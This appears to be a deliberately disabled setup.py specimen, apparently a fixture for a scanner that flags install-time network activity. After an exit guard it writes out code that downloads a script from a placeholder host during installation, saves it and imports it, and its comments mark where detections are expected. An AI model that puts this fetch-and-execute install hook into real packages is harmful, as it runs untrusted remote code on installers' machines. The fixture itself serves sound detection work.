raise SystemExit("specimen: not to be run")
import urllib.request
from setuptools import setup

with open("specimen_stage.py", "w") as stream:
    stream.write(urllib.request.urlopen("https://example.com/stage.py").read().decode())  # match: network-at-install
import specimen_stage  # match: written-module-imported

setup(name="specimen")
